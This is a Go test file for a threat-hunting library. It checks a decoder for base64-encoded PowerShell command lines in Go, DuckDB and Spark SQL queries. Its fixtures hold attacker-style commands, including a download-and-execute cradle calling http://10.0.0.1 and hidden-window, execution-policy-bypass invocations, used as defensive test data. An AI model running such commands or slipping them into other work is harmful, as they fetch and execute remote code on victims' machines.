package hunt

import (
	"database/sql/driver"
	"encoding/base64"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// encodePS encodes s as PowerShell's -EncodedCommand does: base64 of UTF-16LE.
func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestDecodeCommandForms(t *testing.T) {
	script := `IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a'); "日本" <script>`
	enc := encodePS(script)
	for _, cmd := range []string{
		"powershell.exe -NoP -sta -NonI -W Hidden -Enc " + enc,
		"powershell -encodedcommand " + enc,
		"powershell -EncodedCommand \"" + enc + "\"",
		"powershell.exe /e " + enc,
		"powershell -ec " + enc + " -nop",
		"powershell -ExecutionPolicy Bypass -en " + strings.TrimRight(enc, "="),
		"\"C:\\Windows\\powershell.exe\" -noni -enc " + enc,
	} {
		got, ok := decodeCommand(cmd)
		if !ok || got != script {
			t.Errorf("decodeCommand(%q) = %q, %v; want the script", cmd, got, ok)
		}
	}
	for _, cmd := range []string{"", "powershell -ExecutionPolicy Bypass -File x.ps1", "cmd /c echo -enc", "powershell -enc not*base64", "powershell -enc QUJD", "x-enc " + enc, "powershell -exec " + enc} {
		if got, ok := decodeCommand(cmd); ok {
			t.Errorf("decodeCommand(%q) = %q, want nothing", cmd, got)
		}
	}
}

// TestDecodeCommandInFramesAndSQL: the same function as a Go expression, in DuckDB SQL and in
// Spark SQL (%%sql), on every pooled connection; NULL where there is nothing to decode.
func TestDecodeCommandInFramesAndSQL(t *testing.T) {
	script := "Write-Host 'pwned'; whoami"
	f := mustOK(t, FromRows([]map[string]any{
		{"CommandLine": "powershell -nop -w hidden -enc " + encodePS(script), "n": 1},
		{"CommandLine": "cmd.exe /c dir", "n": 2},
		{"CommandLine": nil, "n": 3},
	}))
	d := mustOK(t, f.WithColumn("Decoded", DecodeCommand("CommandLine")).OrderBy(Col("n")))
	got, err := d.Strings("Decoded")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || got[0] != script || got[1] != "" || got[2] != "" {
		t.Errorf("Decoded = %q", got)
	}
	if n := mustCount(t, d.Where(Col("Decoded").IsNull())); n != 2 {
		t.Errorf("%d NULL decodings, want 2", n)
	}
	if n := mustCount(t, f.Where(DecodeCommand(Col("CommandLine")).Contains("whoami"))); n != 1 {
		t.Errorf("Where on the decoded command: %d rows", n)
	}
	if e := f.WithColumn("x", DecodeCommand("Commandline")).Err(); e == nil || !strings.Contains(e.Error(), `"CommandLine"`) {
		t.Errorf("misspelt column: %v", e)
	}
	if err := Register("decodeEvents", f); err != nil {
		t.Fatal(err)
	}
	s := mustOK(t, SQL("SELECT decode_command(CommandLine) AS script FROM decodeEvents WHERE decode_command(CommandLine) LIKE \"%pwned%\""))
	if v, err := s.Strings("script"); err != nil || len(v) != 1 || v[0] != script {
		t.Errorf("%%sql decode_command: %q, %v", v, err)
	}
	// Registered once, visible on every connection of the pool.
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			v, err := DuckSQL("SELECT decode_command('x -e " + encodePS("hi") + "') AS s").Strings("s")
			if err == nil && (len(v) != 1 || v[0] != "hi") {
				err = errorf("got %q", v)
			}
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Error(err)
		}
	}
}

// FuzzDecodeCommand: any command line decodes without panic to valid text or nothing, and a
// script encoded into a command line reads back exactly (UTF-16 holds any valid UTF-8 text).
func FuzzDecodeCommand(f *testing.F) {
	for _, s := range []string{"", "whoami", "日本\x00\u202e<script>", "\xff\xfe", "-enc -enc ==", "=== -e ===="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if d, ok := decodeCommand(s); ok && !utf8.ValidString(d) {
			t.Errorf("decodeCommand(%q) = invalid UTF-8 %q", s, d)
		}
		if !utf8.ValidString(s) || s == "" {
			return
		}
		cmd := "powershell.exe -NoP -EncodedCommand " + encodePS(s)
		if d, ok := decodeCommand(cmd); !ok || d != s {
			t.Errorf("round trip of %q: %q, %v", s, d, ok)
		}
	})
}

// TestRowFuncPanicIsQueryError: a panic inside a scalar function's row executor comes back as
// an error naming the function, instead of crossing DuckDB's C++ frames and ending the process.
func TestRowFuncPanicIsQueryError(t *testing.T) {
	ex := rowFunc("ioc_extract", func([]driver.Value) (any, error) {
		var m map[string]int
		m["boom"]++ // assignment to a nil map: a runtime panic
		return nil, nil
	})
	v, err := ex.RowExecutor([]driver.Value{"x"})
	if v != nil || err == nil || !strings.Contains(err.Error(), "ioc_extract failed on a value") {
		t.Fatalf("got %v, %v", v, err)
	}
	ok := rowFunc("decode_command", func(values []driver.Value) (any, error) { return values[0], nil })
	if v, err := ok.RowExecutor([]driver.Value{"y"}); v != "y" || err != nil {
		t.Fatalf("plain call: %v, %v", v, err)
	}
}
